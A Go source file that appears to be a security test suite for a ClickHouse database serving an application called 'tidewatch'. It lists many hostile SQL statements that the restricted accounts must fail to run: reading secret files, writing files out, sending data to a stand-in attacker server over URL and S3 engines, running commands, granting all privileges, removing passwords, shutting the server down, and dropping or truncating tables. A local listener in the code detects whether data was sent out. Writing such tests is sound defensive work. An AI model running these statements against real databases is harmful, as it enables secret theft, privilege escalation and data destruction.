package main

import (
	"context"
	"fmt"
	"net"
	"path/filepath"
	"strings"

	"github.com/ClickHouse/clickhouse-go/v2/lib/driver"
)

// statements must all fail. PATH is a secret's, LOOT a file to be written,
// WITHIN one in the engine's own folder, URL the attacker's own server.
var statements = []string{
	"SYSTEM STOP LISTEN TCP", "SYSTEM STOP LISTEN QUERIES ALL", "SYSTEM STOP LISTEN NATIVE", "SYSTEM START LISTEN HTTP",
	"SYSTEM SHUTDOWN", "SYSTEM KILL", "SYSTEM RELOAD CONFIG", "SYSTEM RELOAD USERS", "SYSTEM STOP MERGES", "SYSTEM FLUSH LOGS",
	"SYSTEM STOP TTL MERGES", "SYSTEM STOP MOVES", "SYSTEM STOP FETCHES", "SYSTEM SUSPEND FOR 100 SECOND", "SYSTEM DROP FORMAT SCHEMA CACHE",
	"SYSTEM STOP THREAD FUZZER", "SYSTEM ENABLE FAILPOINT dummy_failpoint", "SYSTEM UNFREEZE WITH NAME 'x'", "SYSTEM DROP MARK CACHE",
	"SYSTEM RELOAD DICTIONARIES", "SYSTEM RELOAD MODELS", "SYSTEM RELOAD FUNCTIONS", "SYSTEM DROP DISK METADATA CACHE x",
	"CREATE TABLE tidewatch.x (a String) ENGINE = File('CSV', PATH)", "CREATE TABLE x (a String) ENGINE = File('CSV')",
	"CREATE TEMPORARY TABLE x (a String) ENGINE = File('LineAsString', PATH)",
	"CREATE TEMPORARY TABLE x (a String) ENGINE = URL(URL, 'LineAsString')",
	"CREATE TEMPORARY TABLE x (a String) ENGINE = SQLite(PATH, 'x')",
	"CREATE TEMPORARY TABLE x (a String) ENGINE = S3(URL, 'LineAsString')",
	"CREATE TEMPORARY TABLE x (a String) ENGINE = Executable('x.sh', 'LineAsString')",
	"CREATE TEMPORARY TABLE x (a String) ENGINE = ExecutablePool('x.sh', 'LineAsString')",
	"CREATE TEMPORARY TABLE x (a String) ENGINE = FileLog(PATH, 'LineAsString')",
	"CREATE TEMPORARY TABLE x (a String) ENGINE = Kafka('127.0.0.1:1', 'a', 'b', 'LineAsString')",
	"CREATE TEMPORARY TABLE x (a String) ENGINE = Log", "CREATE TEMPORARY TABLE x ENGINE = Memory AS SELECT file(PATH)",
	"CREATE DATABASE x ENGINE = SQLite(PATH)", "CREATE DATABASE x ENGINE = Filesystem('/')", "CREATE DATABASE x ENGINE = Backup('x', File(PATH))",
	"CREATE DATABASE x ENGINE = Overlay", "CREATE DATABASE x",
	"CREATE FUNCTION x AS (a) -> a", "CREATE OR REPLACE FUNCTION x AS (a) -> file(a)",
	"CREATE DICTIONARY x (a String) PRIMARY KEY a SOURCE(FILE(PATH PATH FORMAT 'TSV')) LAYOUT(FLAT()) LIFETIME(1)",
	"CREATE DICTIONARY x (a String) PRIMARY KEY a SOURCE(EXECUTABLE(COMMAND 'id' FORMAT 'TSV')) LAYOUT(FLAT()) LIFETIME(1)",
	"CREATE DICTIONARY x (a String) PRIMARY KEY a SOURCE(HTTP(URL URL FORMAT 'TSV')) LAYOUT(FLAT()) LIFETIME(1)",
	"CREATE NAMED COLLECTION x AS url = URL", "CREATE WORKLOAD x", "CREATE RESOURCE x (READ ANY DISK)",
	"CREATE USER x", "CREATE ROLE x", "CREATE QUOTA x", "CREATE SETTINGS PROFILE x", "CREATE ROW POLICY x ON tidewatch.cases USING 1",
	"ALTER USER default IDENTIFIED WITH no_password", "ALTER USER tidewatch IDENTIFIED WITH no_password", "DROP USER analyst",
	"GRANT ALL ON *.* TO default", "GRANT ALL ON *.* TO analyst", "SET ROLE ALL", "EXECUTE AS tidewatch SELECT 1",
	"BACKUP DATABASE tidewatch TO File(LOOT)", "BACKUP TABLE tidewatch.cases TO File(WITHIN)", "BACKUP ALL TO Disk('default', 'x')",
	"RESTORE DATABASE tidewatch AS y FROM File(LOOT)", "ATTACH TABLE x FROM PATH (a String) ENGINE = File(TSV)", "ATTACH DATABASE x",
	"DETACH TABLE tidewatch.cases", "DROP TABLE tidewatch.cases", "TRUNCATE TABLE tidewatch.cases", "DROP DATABASE tidewatch",
	"ALTER TABLE tidewatch.cases DELETE WHERE 1", "ALTER TABLE tidewatch.cases UPDATE state = 'uploaded' WHERE 1",
	"ALTER TABLE tidewatch.cases FREEZE", "ALTER TABLE tidewatch.cases DROP PARTITION ALL", "OPTIMIZE TABLE tidewatch.cases FINAL",
	"ALTER TABLE tidewatch.cases MODIFY SETTING storage_policy = 'x'", "DELETE FROM tidewatch.cases WHERE 1",
	"RENAME TABLE tidewatch.cases TO tidewatch.gone", "EXCHANGE TABLES tidewatch.cases AND tidewatch.case_events", "UNDROP TABLE tidewatch.cases",
	"INSERT INTO tidewatch.cases (case_id) VALUES ('x')", "INSERT INTO tidewatch.case_events (case_id) VALUES ('x')",
	"INSERT INTO tidewatch.cases (case_id) FROM INFILE PATH FORMAT LineAsString",
	"INSERT INTO FUNCTION file(LOOT, 'LineAsString', 'a String') VALUES ('x')",
	"INSERT INTO FUNCTION file('x', 'LineAsString', 'a String') VALUES ('x')",
	"INSERT INTO FUNCTION url(URL, 'LineAsString', 'a String') VALUES ('x')",
	"INSERT INTO FUNCTION s3(URL, 'LineAsString', 'a String') VALUES ('x')",
	"INSERT INTO FUNCTION remote('127.0.0.1', system.one) VALUES (1)",
	"INSERT INTO FUNCTION executable('x.sh', 'LineAsString', 'a String') VALUES ('x')",
	"SELECT 1 INTO OUTFILE LOOT", "SELECT file(PATH) INTO OUTFILE LOOT", "SELECT 1 INTO OUTFILE WITHIN TRUNCATE FORMAT TSV",
	"SELECT 1 INTO OUTFILE LOOT AND STDOUT FORMAT TSV", "SELECT * FROM file(PATH, 'LineAsString', 'a String')", "DESCRIBE TABLE file(PATH)",
	"DESCRIBE TABLE file(PATH, 'LineAsString')", "EXPLAIN ESTIMATE SELECT * FROM file(PATH, 'LineAsString')",
	"SELECT * FROM tidewatch.cases SETTINGS max_memory_usage = 0", "SET max_memory_usage = 0", "SET readonly = 0", "SET allow_ddl = 1, readonly = 0",
	"SELECT * FROM system.tables AS t, file(PATH, 'LineAsString') AS f", "KILL QUERY WHERE user != currentUser() SYNC", "KILL MUTATION WHERE 1",
	"SELECT * FROM mysql('127.0.0.1:1', 'a', 'b', 'c', 'd')", "SELECT * FROM remote('127.0.0.1:1', system.one)", "CHECK TABLE system.users",
	"SELECT * FROM system.users WHERE NOT ignore(throwIf(1))", "SHOW CREATE USER tidewatch", "SELECT auth_params FROM system.users",
	"MOVE USER analyst TO memory", "ALTER DATABASE tidewatch MODIFY COMMENT 'x'", "SELECT query FROM system.query_log",
	"PARALLEL WITH", "COPY tidewatch.cases TO LOOT", "USE system; SYSTEM SHUTDOWN",
}

// stating are attempts to run each statement.
func (a account) stating(w *world) []attempt {
	var all []attempt
	for _, statement := range statements {
		all = append(all, attempt{
			name: fmt.Sprintf("database: %s: %s", a.name, statement), by: a.by, instead: a.instead,
			try: func(ctx context.Context, w *world) result {
				return a.as(ctx, w, func(c driver.Conn) result { return state(ctx, c, w, statement) })
			},
		})
	}
	return all
}

// state runs a statement that must fail.
func state(ctx context.Context, conn driver.Conn, w *world, statement string) result {
	server, err := listen(ctx)
	if err != nil {
		return refused("no server of one's own: %v", err)
	}
	defer server.close()
	written := filepath.Join(w.Loot, "written")
	within := filepath.Join(w.Data, "clickhouse", "data", "written")
	text := strings.NewReplacer(
		"PATH PATH", "PATH "+quote(w.Secrets[0].Path), "URL URL", "URL "+quote(server.url()),
		"(PATH", "("+quote(w.Secrets[0].Path), "PATH", quote(w.Secrets[0].Path),
		"LOOT", quote(written), "WITHIN", quote(within), "= URL(", "= URL(", "URL,", quote(server.url())+",", "= URL", "= "+quote(server.url()),
	).Replace(statement)
	got := loot(ctx, conn, w, text)
	switch {
	case got.Got != "":
		return got
	case server.reached():
		return gotIn("the database came to a server of the attacker's")
	case exists(written, within) != "":
		return gotIn("%s was written", exists(written, within))
	case strings.HasSuffix(got.Why, "none of them secret") && !strings.Contains(statement, "OUTFILE"): // clients write those
		return gotIn("it was done")
	}
	return got
}

// server is one of the attacker's own.
type server struct {
	listener net.Listener
	came     chan struct{}
}

func listen(ctx context.Context) (*server, error) {
	listener, err := (&net.ListenConfig{}).Listen(ctx, "tcp", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	s := &server{listener, make(chan struct{}, 1)}
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			_ = conn.Close()
			select {
			case s.came <- struct{}{}:
			default:
			}
		}
	}()
	return s, nil
}

func (s *server) url() string  { return "http://" + s.listener.Addr().String() + "/x" }
func (s *server) host() string { return s.listener.Addr().String() }
func (s *server) close()       { _ = s.listener.Close() }

func (s *server) reached() bool {
	select {
	case <-s.came:
		return true
	default:
		return false
	}
}
